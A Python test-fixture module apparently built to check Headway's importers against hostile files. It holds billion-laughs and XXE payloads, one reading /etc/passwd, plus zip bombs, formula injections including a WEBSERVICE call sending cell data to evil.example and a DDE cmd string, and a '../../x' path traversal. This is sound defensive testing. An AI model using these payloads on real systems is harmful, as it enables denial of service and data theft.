"""Files made to hurt, each by a line or two of code. A name here is what a failing test calls it."""

import io
import json
import random
import struct
import zipfile
from collections.abc import Callable
from typing import Any, Final

import xlsxwriter

from headway.core.transfer import backups
from headway.outside.transfer.writers import csv_bytes

MEGA: Final = 1_000_000
TEN: Final = 10 * MEGA
HEAD: Final = b"Company,Title,Status,Notes\n"
LAUGHS: Final = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha" * 50}">' for n in range(10))
XML: Final = '<?xml version="1.0"?>'
SHEET: Final = "xl/worksheets/sheet1.xml"
STRINGS: Final = "xl/sharedStrings.xml"


def workbook() -> bytes:
    made = io.BytesIO()
    with xlsxwriter.Workbook(made, {"in_memory": True}) as book:
        sheet = book.add_worksheet("Jobs")
        for at, row in enumerate([("Company", "Status"), ("Northwind", "Applied"), ("Fernhill", "Rejected")]):
            sheet.write_row(at, 0, row)
    return made.getvalue()


BOOK: Final = workbook()


def rewritten(book: bytes, change: Callable[[dict[str, bytes]], object]) -> bytes:
    """A workbook with members changed."""
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    change(members)
    return zipped(members)


def zipped(members: dict[str, bytes]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return made.getvalue()


def with_laughs(members: dict[str, bytes]) -> None:
    text = members[STRINGS].decode().replace("Northwind", "&l9;")
    members[STRINGS] = text.replace("<sst", f"<!DOCTYPE sst [{LAUGHS}]><sst", 1).encode()


def lying() -> bytes:
    """A workbook whose directory says that its sheet is short, and which unpacks to 60 MB."""
    book = rewritten(BOOK, lambda members: members.update({SHEET: members[SHEET] + b" " * 60 * MEGA}))
    size = struct.pack("<I", len(BOOK))
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        true = struct.pack("<I", archive.getinfo(SHEET).file_size)
    return book.replace(true, size)


def nested(depth: int) -> bytes:
    data = BOOK
    for level in range(depth):
        data = zipped({f"level-{level}.xlsx": data})
    return data


def ods(content: str) -> bytes:
    kind = b"application/vnd.oasis.opendocument.spreadsheet"
    manifest = f'{XML}<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>'
    return zipped({"mimetype": kind, "content.xml": content.encode(), "META-INF/manifest.xml": manifest.encode()})


def ods_sheet(doctype: str, cell: str) -> str:
    kinds = ("office", "table", "text")
    spaces = " ".join(f'xmlns:{kind}="urn:oasis:names:tc:opendocument:xmlns:{kind}:1.0"' for kind in kinds)
    row = f"<table:table-row><table:table-cell><text:p>{cell}</text:p></table:table-cell></table:table-row>"
    body = f'<table:table table:name="Jobs">{row * 3}</table:table>'
    inside = f"<office:body><office:spreadsheet>{body}</office:spreadsheet></office:body>"
    return f"{XML}{doctype}<office:document-content {spaces}>{inside}</office:document-content>"


def far_cells(members: dict[str, bytes]) -> None:
    far = b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
    members[SHEET] = members[SHEET].replace(b"</sheetData>", far)


def formulas() -> bytes:
    made = io.BytesIO()
    with xlsxwriter.Workbook(made, {"in_memory": True}) as book:
        sheet = book.add_worksheet("Jobs")
        sheet.write_row(0, 0, ["Company", "Title", "Status"])
        for row in range(1, 200):
            sheet.write_formula(row, 0, '=WEBSERVICE("http://evil.example/"&A1)', None, "Fernhill")
            sheet.write_formula(row, 1, "=cmd|'/c calc'!A0", None, f"=HYPERLINK({row})")
            sheet.write_formula(row, 2, f"=A{row}&A{row}", None, "Applied")
    return made.getvalue()


def export(**changes: Any) -> bytes:
    """Headway's own export, of nothing, with parts that are something else."""
    lists = "companies contacts sources labels searches imports opportunities imported_rows answers".split()
    document: dict[str, Any] = {"headway": {"format": 1}, "person": {"zone": "UTC", "preferences": {}}}
    return json.dumps(document | {name: [] for name in lists} | changes).encode()


def backup(data: bytes, **changes: Any) -> bytes:
    from datetime import UTC, datetime
    from hashlib import sha256

    made = datetime(2026, 3, 15, tzinfo=UTC)
    manifest = backups.Manifest("sqlite", "0.1.0", 1, made, 1, len(data), sha256(data).hexdigest())
    told = json.loads(backups.as_bytes(manifest)) | changes
    return zipped({"manifest.json": json.dumps(told).encode(), "headway.sqlite3": data, "tracker.json": data})


def noise(n: int, seed: int) -> bytes:
    return random.Random(seed).randbytes(n)  # noqa: S311 - the same every time


UNSEEN: Final = "\u200b\u200d\u202e\u2066\ufeff\u00ad\u061c"
RIGHT_TO_LEFT: Final = "شركة الأمل", "חברת התקווה"
FILES: Final[dict[str, Callable[[], bytes]]] = {
    "noise": lambda: noise(MEGA, 1),
    "a little noise": lambda: noise(60, 2),
    "noise that says it is a zip": lambda: b"PK\x03\x04" + noise(MEGA, 3),
    "noise that says it is old Excel": lambda: bytes.fromhex("d0cf11e0a1b11ae1") + noise(MEGA, 4),
    "a workbook cut in half": lambda: BOOK[: len(BOOK) // 2],
    "a workbook without its last byte": lambda: BOOK[:-1],
    "the directory of a workbook alone": lambda: BOOK[-400:],
    "archives in archives": lambda: nested(40),
    "a workbook as its own sheet": lambda: rewritten(BOOK, lambda members: members.update({SHEET: BOOK})),
    "a sheet that unpacks to 90 MB": lambda: rewritten(
        BOOK, lambda members: members.update({SHEET: b"<a>" + b" " * 90 * MEGA})
    ),
    "a directory that lies": lying,
    "laughs in a workbook": lambda: rewritten(BOOK, with_laughs),
    "laughs in an ODS": lambda: ods(ods_sheet(f"<!DOCTYPE x [{LAUGHS}]>", "&l9;")),
    "laughs": lambda: f"{XML}<!DOCTYPE x [{LAUGHS}]><table><tr><td>&l9;</td></tr></table>".encode(),
    "one long entity very often": lambda: (
        f'{XML}<!DOCTYPE x [<!ENTITY a "{"a" * 50_000}">]><table>' + "<tr><td>&a;</td></tr>" * 50_000
    ).encode(),
    "a file of the machine as an entity": lambda: ods(
        ods_sheet('<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>', "&f;")
    ),
    "cells that repeat for ever": lambda: ods(
        ods_sheet("", "x").replace("<table:table-cell>", '<table:table-cell table:number-columns-repeated="999999999">')
    ),
    "rows that repeat for ever": lambda: ods(
        ods_sheet("", "x").replace("<table:table-row>", '<table:table-row table:number-rows-repeated="999999999">')
    ),
    "a cell in the far corner": lambda: rewritten(BOOK, far_cells),
    "formulas in a workbook": formulas,
    "formulas in a table": lambda: HEAD + b"=cmd|'/c calc'!A0,+1+1,@SUM(A1:A9),=1+1\n" * 500,
    "a cell of 10 MB": lambda: HEAD + b"Fernhill,Cook,Applied," + b"x" * TEN + b"\n",
    "a quoted cell of 10 MB": lambda: HEAD + b'Fernhill,Cook,Applied,"' + b"a, b\n" * (TEN // 5) + b'"\n',
    "a company of 10 MB": lambda: HEAD + b"x" * TEN + b",Cook,Applied,\n",
    "a header of 10 MB": lambda: b"Company," + b"T" * TEN + b"\nFernhill,Cook\n",
    "a string of 10 MB in a workbook": lambda: rewritten(
        BOOK,
        lambda members: members.update(
            {STRINGS: members[STRINGS].replace(b"Northwind", noise(TEN // 2, 5).hex().encode())}
        ),
    ),
    "100,000 columns": lambda: b",".join(b"c%d" % n for n in range(100_000)) + b"\n" + b"x," * 99_999 + b"x\n",
    "20,000 rows of nothing but commas": lambda: HEAD + b",,,\n" * 20_000,
    "zero bytes": lambda: bytes(MEGA),
    "zero bytes in cells": lambda: HEAD + b"Fern\x00hill,\x00,App\x00lied,\x00\n" * 100,
    "UTF-16 without its mark": lambda: (HEAD * 50).decode().encode("utf-16-le"),
    "half of a sign": lambda: HEAD + b"Fernhill,Cook,Applied,\xed\xa0\x80\xf0\x9f\xff\n" * 50,
    "right to left": lambda: HEAD + "\n".join(f"{name},طباخ,Applied,ملاحظة" for name in RIGHT_TO_LEFT * 30).encode(),
    "marks that nobody sees": lambda: HEAD + f"Fern{UNSEEN}hill,{UNSEEN},App{UNSEEN}lied,{UNSEEN * 99}\n".encode() * 50,
    "nothing but marks that nobody sees": lambda: (UNSEEN * 9 + "," + UNSEEN + "\n").encode() * 50,
    "accents piled up": lambda: HEAD + ("Fernhill,Co" + "\u0301" * 5000 + "k,Applied,\n").encode() * 20,
    "brackets": lambda: b"[" * MEGA,
    "braces": lambda: b'{"a":' * MEGA,
    "a number of a million digits": lambda: b'[{"company": "Fernhill", "pay": ' + b"9" * MEGA + b"}]",
    "numbers that are none": lambda: b'[{"company": NaN, "title": Infinity, "status": 1e999}]' * 3,
    "the same key 200,000 times": lambda: b"[{" + b'"company":"Fernhill",' * 200_000 + b'"title":"Cook"}]',
    "tables in tables": lambda: (b"<table><tr><td>" * 3000 + b"x") * 20,
    "a script as a table": lambda: b"<table><tr><td>Company</td></tr><tr><td><script>alert(1)</script>" * 2000,
    "bars": lambda: b"|" * MEGA + b"\n|-|-|\n",
    "an export of nothing": export,
    "an export of another kind": lambda: export(opportunities={"a": 1}, companies="x", searches=7),
    "an export nested without end": lambda: b'{"headway": {"format": 1}, "searches": ' + b"[" * 100_000,
    "an export of the future": lambda: export(headway={"format": 10**30}),
    "an export that leads nowhere": lambda: export(
        opportunities=[
            {"id": n, "company": 99, "search": 7, "history": [{"line": 1, "retracts": 1}]} for n in range(9000)
        ]
    ),
    "an export with days of its own": lambda: export(
        searches=[{"id": 1, "name": "\x00", "started_on": "31 February", "example": 1, "stages": [], "roles": []}]
    ),
    "an export with a mark nobody sees for a name": lambda: export(
        companies=[{"id": 1, "name": UNSEEN, "notes": "\ud800"}]
    ),
    "a backup of noise": lambda: backup(noise(MEGA, 6)),
    "a backup of zero bytes": lambda: backup(bytes(50 * MEGA)),
    "a backup of brackets": lambda: backup(b"[" * 100_000, kind="json"),
    "a backup of an export of another kind": lambda: backup(export(searches=7), kind="json"),
    "a backup that says it is endless": lambda: backup(b"x", size=2**39),
    "a backup with a name that climbs": lambda: backup(b"x", kind="../../x"),
    "a table of ours": lambda: csv_bytes(["Company", "Status"], [["Fernhill", "Applied"]] * 3),
}
